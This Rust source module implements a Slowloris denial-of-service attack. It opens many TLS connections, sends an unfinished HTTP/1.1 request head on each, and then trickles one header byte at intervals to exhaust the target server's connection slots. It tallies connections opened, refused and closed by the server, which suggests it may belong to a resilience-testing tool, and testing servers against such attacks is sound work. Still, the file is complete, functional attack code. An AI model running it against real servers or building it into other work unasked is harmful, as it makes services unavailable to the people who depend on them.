//! Slowloris: HTTP/1.1 request heads sent a few bytes at a time, never finished. Each
//! connection ties up the server until its header timeout ends it.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::Semaphore;
use tokio::task::JoinHandle;

use crate::{tls, Target};

#[derive(Debug, Default)]
pub struct SlowCounts {
    pub opened: AtomicUsize,
    pub refused: AtomicUsize,
    /// Connections the server closed (or answered, e.g. 408) before the head was complete.
    pub closed_by_server: AtomicUsize,
}

/// The slow connections, held until dropped.
pub struct SlowHeaders {
    pub counts: Arc<SlowCounts>,
    tasks: Vec<JoinHandle<()>>,
}

impl SlowHeaders {
    /// Opens `count` TLS connections (ALPN http/1.1) that each send one more header byte every
    /// `every`; returns once every connection was tried.
    pub async fn open(target: &Target, count: usize, every: Duration) -> Self {
        let counts = Arc::new(SlowCounts::default());
        let Ok(connector) = tls::connector(&[b"http/1.1"]) else {
            counts.refused.fetch_add(count, Ordering::Relaxed);
            return Self {
                counts,
                tasks: Vec::new(),
            };
        };
        let gate = Arc::new(Semaphore::new(64));
        let (tried_tx, mut tried_rx) = tokio::sync::mpsc::channel::<()>(count.max(1));
        let mut tasks = Vec::new();
        for i in 0..count {
            let (target, connector, counts, gate, tried) = (
                target.clone(),
                connector.clone(),
                Arc::clone(&counts),
                Arc::clone(&gate),
                tried_tx.clone(),
            );
            tasks.push(tokio::spawn(async move {
                let permit = gate.acquire_owned().await;
                let connected = tls::connect(&target, &connector).await;
                drop(permit);
                let _ = tried.send(()).await;
                let Ok(stream) = connected else {
                    counts.refused.fetch_add(1, Ordering::Relaxed);
                    return;
                };
                counts.opened.fetch_add(1, Ordering::Relaxed);
                let (mut reader, mut writer) = tokio::io::split(stream);
                let head = format!(
                    "GET /static/reset.css HTTP/1.1\r\nHost: {}\r\nX-Slow-{i}: ",
                    target.authority
                );
                let trickle = async {
                    if writer.write_all(head.as_bytes()).await.is_err() {
                        return;
                    }
                    loop {
                        tokio::time::sleep(every).await;
                        if writer.write_all(b"a").await.is_err() || writer.flush().await.is_err() {
                            return;
                        }
                    }
                };
                let mut buf = [0u8; 1024];
                tokio::select! {
                    _ = trickle => {}
                    _ = reader.read(&mut buf) => {}
                }
                counts.closed_by_server.fetch_add(1, Ordering::Relaxed);
            }));
        }
        drop(tried_tx);
        for _ in 0..count {
            if tried_rx.recv().await.is_none() {
                break;
            }
        }
        Self { counts, tasks }
    }
}

impl Drop for SlowHeaders {
    fn drop(&mut self) {
        for task in &self.tasks {
            task.abort();
        }
    }
}
